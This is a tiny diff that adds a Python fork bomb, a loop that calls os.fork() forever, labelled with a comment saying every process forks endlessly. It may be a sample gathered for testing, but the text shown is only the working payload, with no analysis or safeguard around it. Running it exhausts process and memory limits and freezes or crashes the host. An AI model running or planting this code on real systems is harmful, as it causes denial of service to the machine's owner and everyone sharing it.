@@ -1,0 +1,5 @@
+# Attempts: a fork bomb: every process forks forever.
+import os
+
+while True:
+    os.fork()
